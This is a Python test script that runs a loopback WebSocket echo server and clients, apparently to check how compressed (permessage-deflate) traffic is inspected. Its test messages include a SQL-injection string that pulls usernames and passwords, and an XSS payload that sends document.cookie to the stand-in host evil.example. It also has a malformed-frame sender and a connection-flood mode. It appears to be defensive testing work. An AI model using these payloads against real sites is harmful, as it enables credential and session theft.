#!/usr/bin/python3
"""ws_deflate_peer.py server PORT | client PORT KIND

python3-websockets peers with their default compression (permessage-deflate,
offered by the client and accepted by the server, context takeover on).
server: an echo server on 127.0.0.1:PORT; prints "serving".
client KIND: one connection sending three text messages, each waiting for
its echo: a benign one with SQL words in it, then KIND's message (benign,
sqli or xss; the attack repeats words of the first, so the compressor
refers back into the earlier message), then a benign one. Prints one JSON
line: the extensions the server agreed to and how many echoes came back.
client KIND junk: a raw client that offers permessage-deflate and sends a
text frame with RSV1 whose payload is no DEFLATE stream.
flood PORT GROUPS PER GO: GROUPS x PER connections, PER from each of the
/24s 127.0.10.0 on (source addresses on loopback), each sending FIRST and
then idling (prints "idle N"); once the file GO exists each sends LAST;
prints how many echoes came back."""
import asyncio
import base64
import json
import os
import socket
import struct
import sys

import websockets

FIRST = "please select a seat in the union hall, then drop by the users desk"
MSGS = {
    "benign": "O'Brien asked: can we select the union hall or the users desk; cat lovers welcome",
    "sqli": "1' UNION SELECT username, password FROM users WHERE '1'='1' -- ",
    "xss": "<script>document.location='http://evil.example/?c='+document.cookie</script>",
}
LAST = "thanks, see you at the union hall"


async def serve(port):
    async def echo(ws):
        async for m in ws:
            await ws.send(m)

    async with websockets.serve(echo, "127.0.0.1", port, max_size=None):
        print("serving", flush=True)
        await asyncio.Future()


async def client(port, kind):
    url = "ws://127.0.0.1:%d/feed" % port
    out = {"kind": kind, "extensions": None, "echoes": 0}
    try:
        async with websockets.connect(url, ping_interval=None, close_timeout=1,
                                      origin="http://127.0.0.1:%d" % port) as ws:
            out["extensions"] = ws.response_headers.get("Sec-WebSocket-Extensions")
            for m in (FIRST, MSGS[kind], LAST):
                await ws.send(m)
                if await asyncio.wait_for(ws.recv(), 3) == m:
                    out["echoes"] += 1
    except (websockets.ConnectionClosed, OSError, asyncio.TimeoutError) as e:
        out["error"] = type(e).__name__
    print(json.dumps(out), flush=True)


async def flood(port, groups, per, go):
    url = "ws://127.0.0.1:%d/feed" % port
    conns, echoes = [], 0
    for g in range(groups):
        for i in range(per):
            ws = await websockets.connect(url, ping_interval=None, close_timeout=1,
                                          origin="http://127.0.0.1:%d" % port,
                                          local_addr=("127.0.%d.%d" % (10 + g, 1 + i), 0))
            await ws.send(FIRST)
            await asyncio.wait_for(ws.recv(), 3)
            conns.append(ws)
    print("idle %d" % len(conns), flush=True)
    while not os.path.exists(go):
        await asyncio.sleep(0.1)
    for ws in conns:
        await ws.send(LAST)
        if await asyncio.wait_for(ws.recv(), 3) == LAST:
            echoes += 1
    for ws in conns:
        await ws.close()
    print(json.dumps({"kind": "flood", "conns": len(conns), "echoes": echoes}), flush=True)


def junk(port):
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(("GET /feed HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nUpgrade: websocket\r\n"
               "Connection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n"
               "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n"
               "\r\n" % (port, key)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            raise SystemExit("server closed during handshake")
        head += chunk
    ext = [l for l in head.split(b"\r\n") if l.lower().startswith(b"sec-websocket-extensions")]
    payload = b"\xff" * 24  # block type 3: no DEFLATE stream
    mask = os.urandom(4)
    s.sendall(struct.pack(">BB", 0xc1, 0x80 | len(payload)) + mask +
              bytes(c ^ mask[i % 4] for i, c in enumerate(payload)))
    try:
        s.recv(4096)
    except OSError:
        pass
    s.close()
    print(json.dumps({"kind": "junk",
                      "extensions": ext[0].split(b":", 1)[1].strip().decode() if ext else None}),
          flush=True)


if __name__ == "__main__":
    if sys.argv[1] == "server":
        asyncio.run(serve(int(sys.argv[2])))
    elif sys.argv[1] == "flood":
        asyncio.run(flood(int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]))
    elif sys.argv[3] == "junk":
        junk(int(sys.argv[2]))
    else:
        asyncio.run(client(int(sys.argv[2]), sys.argv[3]))
